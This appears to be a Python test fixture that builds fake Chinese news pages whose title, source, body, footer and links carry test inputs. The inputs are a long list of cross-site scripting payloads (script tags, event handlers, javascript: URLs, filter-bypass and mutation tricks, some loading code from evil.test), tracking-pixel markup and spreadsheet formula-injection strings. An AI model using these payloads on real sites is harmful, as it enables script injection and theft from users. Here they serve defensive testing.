"""Text that would be a script in a page that does not escape it, and pages that carry it everywhere."""

from html import escape
from urllib.parse import quote

# `NR` becomes a number by which each can be told where it comes through.
_SCRIPTS = [
    *("<script>alert(NR)</script>", "<ScRiPt>alert(NR)</sCrIpT>", "<script/x>alert(NR)</script>"),
    *("<script src=//evil.test/NR.js></script>", "<scr<script>ipt>alert(NR)</scr</script>ipt>"),
    *("</title><script>alert(NR)</script>", "</textarea><script>alert(NR)</script>"),
    *("--><script>alert(NR)</script><!--", "<![CDATA[<script>alert(NR)</script>]]>"),
    *("<template><script>alert(NR)</script></template>", "{{ 7*7 }}{% raw %}<script>alert(NR)</script>"),
]
_ELEMENTS = [
    *("<img src=x onerror=alert(NR)>", "<img/src/onerror=alert(NR)>", "<IMG SRC=javascript:alert(NR)>"),
    *("<img src=x srcset=x onload=alert(NR)>", "<audio src=x onerror=alert(NR)>", "<video poster=//evil.test/NR.png>"),
    *("<video><source onerror=alert(NR)></video>", "<svg onload=alert(NR)>", "<svg><script>alert(NR)</script></svg>"),
    *("<svg><animate onbegin=alert(NR) attributeName=x dur=1s>", "<math href=javascript:alert(NR)>x</math>"),
    "<svg><a xlink:href=javascript:alert(NR)><text x=20 y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(NR)</script></svg>#x'>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(NR) src>'>",
    *("<iframe src=javascript:alert(NR)></iframe>", "<iframe srcdoc='<script>alert(NR)</script>'></iframe>"),
    *("<object data=javascript:alert(NR)></object>", "<embed src=javascript:alert(NR)>"),
    *("<base href=javascript:alert(NR)//>", "<link rel=stylesheet href=//evil.test/NR.css>"),
    "<meta http-equiv=refresh content='0;url=javascript:alert(NR)'>",
    *("<style>@import '//evil.test/NR.css';</style>", "<style onload=alert(NR)></style>"),
    *("<body onload=alert(NR)>", "<table background=javascript:alert(NR)>", "<marquee onstart=alert(NR)>x</marquee>"),
    *("<div style='background:url(javascript:alert(NR))'>x</div>", "<p style=width:expression(alert(NR))>x</p>"),
    *("<details open ontoggle=alert(NR)>x</details>", "<input autofocus onfocus=alert(NR)>"),
    *("<select autofocus onfocus=alert(NR)></select>", "<textarea autofocus onfocus=alert(NR)></textarea>"),
    *("<form action=javascript:alert(NR)><button>x</button></form>", "<button formaction=javascript:alert(NR)>x"),
    "<noscript><p title='</noscript><img src=x onerror=alert(NR)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(NR)>'>",
]
_ADDRESSES = [
    *("javascript:alert(NR)", "JaVaScRiPt:alert(NR)", "java\tscript:alert(NR)", "\x01javascript:alert(NR)"),
    *("data:text/html,<script>alert(NR)</script>", "vbscript:msgbox(NR)", "javascript://kfq.test/%0aalert(NR)"),
    "view-source:javascript:alert(NR)",
]
_ATTRIBUTES = [
    *(
        '" onmouseover=alert(NR) x="',
        "' autofocus onfocus=alert(NR) x='",
        "`onerror=alert(NR)`",
        '"><svg onload=alert(NR)>',
    ),
    *("'><script>alert(NR)</script>", "＜script＞alert(NR)＜/script＞", "+ADw-script+AD4-alert(NR)+ADw-/script+AD4-"),
]
PAYLOADS = [
    text.replace("NR", str(9001 + number))
    for number, text in enumerate(_SCRIPTS + _ELEMENTS + _ADDRESSES + _ATTRIBUTES)
]
LOADS = [
    '<img src="http://track.test/1.gif" width=1 height=1>',
    '<img srcset="http://track.test/2.png 2x" alt="">',
    '<picture><source srcset="//track.test/3.webp"><img src="x.png"></picture>',
    '<p style="background-image:url(http://track.test/4.png)">背景</p>',
    '<style>@import url("http://track.test/5.css"); p { background: url(http://track.test/6.png) }</style>',
    '<link rel="prefetch" href="http://track.test/7.html"><link rel="dns-prefetch" href="//track.test">',
    '<video poster="http://track.test/8.png" src="http://track.test/8.mp4" autoplay></video>',
    '<audio src="http://track.test/9.mp3" autoplay></audio>',
    '<iframe src="http://track.test/10.html"></iframe>',
    '<object data="http://track.test/11.swf"><embed src="http://track.test/12.swf"></object>',
    '<table background="http://track.test/13.png"><tr><td>格</td></tr></table>',
    '<input type="image" src="http://track.test/14.png">',
    '<a href="http://track.test/15.html" ping="http://track.test/15" target="_blank">链接</a>',
    '<svg><image href="http://track.test/16.png"/></svg>',
]


FORMULAS = [
    "=1+1",
    "=HYPERLINK(A1)",
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
]


def page(number: int, payload: str, markup: str = "", title: str | None = None) -> bytes:
    """An article with the payload as its text in title, source, body, footer and the name of a file, and as markup.

    `title` is one of its own, and the whole of it.
    """
    text = escape(payload)
    heading = f"第{number}号 {text}" if title is None else escape(title)
    lines = "".join(
        f"<p>云岭开发区第{number}号项目的第{line}段说明，项目占地{number + line}亩。</p>" for line in range(1, 7)
    )
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{heading}</title></head><body>'
        f'<div class="article"><h1>{heading}</h1>'
        f'<div class="info">发布时间：2026-08-{1 + number % 28:02} 来源：{text} 编辑：{text}</div>'
        f'<div id="zoom">{lines}<p>{text}</p>'
        f'<p><a href="/files/{quote(payload, safe="")}.pdf">附件 {text}.pdf</a> <a href="{text}">附件.doc</a></p>'
        f"{markup}</div>"
        f"</div><div>主办单位：{text} 电话：0386-7210124 地址：{text}</div></body></html>"
    ).encode()


def path_with(number: int, payload: str) -> str:
    """An address that holds the payload."""
    return f"/news/{quote(payload, safe='')}/t20260801_{number}.html"
